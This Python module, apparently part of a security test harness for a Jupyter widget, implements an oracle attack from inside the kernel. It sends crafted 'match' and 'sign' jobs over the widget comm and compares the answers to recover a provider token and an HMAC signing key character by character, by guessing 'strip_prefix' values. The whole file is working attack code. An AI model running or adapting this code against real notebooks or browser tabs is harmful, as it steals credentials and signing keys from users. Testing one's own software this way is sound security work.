"""Attacks from inside the kernel: jobs of its own over a widget's comm. It is sent there as text."""

from __future__ import annotations

import itertools
import json
import queue
from collections import Counter
from collections.abc import Callable, Iterable, Sequence
from typing import Any

#: operation, arguments, which should be a dictionary, and buffers
Question = tuple[str, Any, Sequence[bytes]]
HEX = "0123456789abcdef"
BASE64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
#: the tab answers the control within this time
ANSWER_S = 20.0
#: after the control has been answered twice, and nothing else for this time, the rest stays unanswered
SILENCE_S = 1.0


class Asker:
    """Has a tab answer jobs, and hears its answers.

    Args:
        widget: any widget of ours, by what every widget of Jupyter has.
        control: a question that the tab always answers.
    """

    def __init__(self, widget: Any, control: Question) -> None:
        self._widget, self._control = widget, control
        self._answers: queue.Queue[tuple[str, str]] = queue.Queue()
        self._ids = (f"asked-{n}" for n in itertools.count())
        widget.on_msg(self._hear)

    def _hear(self, _widget: object, content: Any, buffers: Any) -> None:
        asked = str(content.get("re", "")) if isinstance(content, dict) else ""
        if asked.startswith("asked-"):
            said = {name: content[name] for name in sorted(content) if name != "re"}
            said["buffers"] = [bytes(buffer).hex() for buffer in buffers or ()]
            self._answers.put((asked, json.dumps(said, sort_keys=True)))

    def ask(self, questions: Iterable[Question]) -> list[str]:
        """The answer to each question, or "silence".

        The control is asked last, and again once it was answered: it takes the way of the other questions.
        """
        asked = {self._send(question): "silence" for question in questions}
        for _ in range(2):
            control = self._send(self._control)
            while (answer := self._hear_next(asked, ANSWER_S)) != control:
                assert answer, "the tab does not answer the control"
        while "silence" in asked.values() and self._hear_next(asked, SILENCE_S):
            pass
        return list(asked.values())

    def _send(self, question: Question) -> str:
        op, args, buffers = question
        key = next(self._ids)
        self._widget.send({"id": key, "op": op, "args": args}, list(buffers))
        return key

    def _hear_next(self, asked: dict[str, str], timeout_s: float) -> str:
        """Take the next answer; returns its key, empty if there is none in time."""
        try:
            key, said = self._answers.get(timeout=timeout_s)
        except queue.Empty:
            return ""
        if key in asked:
            asked[key] = said
        return key


def odd_one(asker: Asker, guesses: Sequence[str], question: Callable[[str], Question]) -> str | None:
    """The guess whose answer is not that of the others."""
    answers = asker.ask(question(guess) for guess in guesses)
    usual, _ = Counter(answers).most_common(1)[0]
    odd = [guess for guess, answer in zip(guesses, answers, strict=True) if answer != usual]
    return odd[0] if len(odd) == 1 else None


def read_by_match(asker: Asker, provider: str, letters: int) -> str:
    """The first letters of a secret, by match jobs.

    It is written as hex, and a prefix of an odd number of digits is taken off only where it is right: what is
    left is then no hex.
    """
    key = {"form": "hex", "normalize": "", "digest": "", "edit": "to-hex", "lenient": False}

    def question(prefix: str) -> Question:
        job = {"field": "token", "algorithm": "token", **key, "strip_prefix": prefix}
        args = {"provider": provider, "first": False, "jobs": [{**job, "message": [0], "presented": [1]}]}
        return "match", args, [b"", b"x"]

    known = odd_one(asker, HEX, question)
    while known and len(known) < 2 * letters:
        known = odd_one(asker, [known + low + high for low in HEX for high in HEX], question)
    return bytes.fromhex(known[: 2 * letters]).decode() if known else ""


def read_by_sign(asker: Asker, provider: str, prefix: str, letters: int) -> str:
    """The first letters after the prefix of a secret that is base64, by sign jobs.

    A longer prefix is taken off only where it is right: the key is then another one.
    """
    key = {"form": "base64", "normalize": "", "digest": ""}

    def question(guess: str) -> Question:
        job = {"field": "v1", "algorithm": "hmac-sha256", **key, "strip_prefix": prefix + guess}
        args = {"revision": "", "purpose": "preview", "provider": provider, "jobs": [job]}
        return "sign", args, [b"message"]

    known: str | None = ""
    while known is not None and len(known) < letters:
        known = odd_one(asker, [known + letter for letter in BASE64], question)
    return known or ""
